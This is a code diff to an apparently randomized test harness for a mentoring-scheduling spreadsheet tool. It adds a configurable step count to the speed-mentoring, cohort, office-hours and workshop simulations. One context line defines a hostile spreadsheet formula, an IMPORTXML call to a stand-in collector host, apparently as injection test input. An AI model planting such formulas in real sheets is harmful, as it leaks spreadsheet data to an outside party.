@@ -133,24 +133,24 @@ _PLANS: Mapping[str, Callable[[Workbook, Settings], Plan]] = {
 HOSTILE = '=IMPORTXML("https://collector.example.net/";"//a")'
 
 
-def evening(number: int) -> str:
+def evening(number: int, steps: int = STEPS) -> str:
     """Speed mentoring: rounds that are over stay as they were, whatever happens; typed seats stay until a rematch."""
-    return _carried(number, "speed mentoring", _Evening)
+    return _carried(number, steps, "speed mentoring", _Evening)
 
 
-def community(number: int) -> str:
+def community(number: int, steps: int = STEPS) -> str:
     """Cohorts: typed memberships stay until a rematch, and nobody is in a cohort they did not pick."""
-    return _carried(number, "cohorts", _Community)
+    return _carried(number, steps, "cohorts", _Community)
 
 
-def office(number: int) -> str:
+def office(number: int, steps: int = STEPS) -> str:
     """Office hours: nobody in two slots, no slot over its seats, nobody booked with a mentor who has called off."""
-    return _carried(number, "office hours", _Office)
+    return _carried(number, steps, "office hours", _Office)
 
 
-def workshops(number: int) -> str:
+def workshops(number: int, steps: int = STEPS) -> str:
     """Workshop coaches: nobody twice at an event, nobody at two that overlap, no more leads than asked for."""
-    return _carried(number, "workshop coaches", _Workshops)
+    return _carried(number, steps, "workshop coaches", _Workshops)
 
 
 class _Evening:
@@ -440,7 +440,7 @@ def _texts(bench: Bench, title: str, header: str) -> list[str]:
     return [text for row in tab.rows if (text := tab.text(row, header))]
 
 
-def _carried(number: int, name: str, kind: type[_Evening | _Community | _Office | _Workshops]) -> str:
+def _carried(number: int, steps: int, name: str, kind: type[_Evening | _Community | _Office | _Workshops]) -> str:
     """Carry a sheet of the format through in an order of its own; return what went wrong, or nothing."""
     chance = Random(number)  # noqa: S311 - an order to try things in, no secret
     done: list[str] = []
@@ -452,7 +452,7 @@ def _carried(number: int, name: str, kind: type[_Evening | _Community | _Office 
                 bench = Bench(google, chance)
                 life = kind(bench)
                 bench.command("match")
-                for _ in range(STEPS):
+                for _ in range(steps):
                     if chance.random() < 0.5:
                         done.append("deed")
                         life.deed()
